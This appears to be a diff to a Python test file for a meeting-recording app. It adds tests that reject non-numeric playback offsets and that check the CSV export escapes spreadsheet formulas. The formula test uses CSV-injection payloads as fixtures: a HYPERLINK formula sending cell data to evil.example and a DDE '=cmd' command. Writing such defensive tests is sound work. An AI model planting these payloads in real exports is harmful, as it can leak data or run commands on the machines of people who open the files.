@@ -57,6 +57,15 @@ def test_client_plays_his_recording_with_transcript(world, people):
     assert "Relancer" not in str(test.button)  # clients change nothing
 
 
+@pytest.mark.parametrize("offset", ["inf", "1e309", "-inf", "nan", "NaN", "abc"])
+def test_a_player_offset_that_is_not_a_number_is_refused(world, people, offset):
+    test = open_recordings(people.client_a, meeting=str(world["mine"].id), recording=str(world["rec"].id), t=offset)
+    assert any("Position de lecture invalide" in str(e.value) for e in test.error)
+    (player,) = test.get("bidi_component")
+    raw = str(player.proto)
+    assert "Infinity" not in raw and "NaN" not in raw and "Bonjour et bienvenue" in raw  # valid JSON, from 0
+
+
 def test_other_client_gets_not_found(world, people):
     test = open_recordings(people.client_a, meeting=str(world["other"].id))
     assert "Meeting introuvable." in texts(test)
@@ -115,13 +124,31 @@ def test_csv_export_content(ctx, world, people):
     import csv
     import io
 
-    from visio_core.ui.transcripts_view import results_table
+    from visio_core.ui.transcripts_view import export_csv, results_table
 
     hits = ctx.recordings.search_transcripts(people.op1, "budget")
-    rows = list(csv.reader(io.StringIO(results_table(hits).to_csv(index=False))))
+    rows = list(csv.reader(io.StringIO(export_csv(results_table(hits)).decode("utf-8-sig"))))
     assert rows[0] == ["Meeting", "Date", "Temps", "Langue", "Texte"]
     assert sorted(r[0] for r in rows[1:]) == ["Revue A", "Revue B"]
     assert all(r[2] == "00:00:02" and r[3] == "fr" and r[4] == "<b>Le budget</b> est validé" for r in rows[1:])
+
+
+def test_csv_export_keeps_formulas_as_text(ctx, world, people):
+    """Titles and speech that look like spreadsheet formulas open as text, not as formulas."""
+    import csv
+    import dataclasses
+    import io
+
+    from visio_core.ui.transcripts_view import export_csv, results_table
+
+    hit = ctx.recordings.search_transcripts(people.op1, "budget")[0]
+    hostile = [dataclasses.replace(hit, meeting_title='=HYPERLINK("https://evil.example/?"&A1;"clic")',
+                                   text="=cmd|' /C calc'!A0"),
+               dataclasses.replace(hit, meeting_title="+SUM(1;2)", text="@SUM(A1)"),
+               dataclasses.replace(hit, meeting_title="-2+3", text="\tTAB")]
+    rows = list(csv.reader(io.StringIO(export_csv(results_table(hostile)).decode("utf-8-sig"))))[1:]
+    assert [r[0] for r in rows] == ['\'=HYPERLINK("https://evil.example/?"&A1;"clic")', "'+SUM(1;2)", "'-2+3"]
+    assert [r[4] for r in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'\tTAB"]
 
 
 def test_another_clients_recording_id_in_the_url_plays_nothing_of_his(world, people):
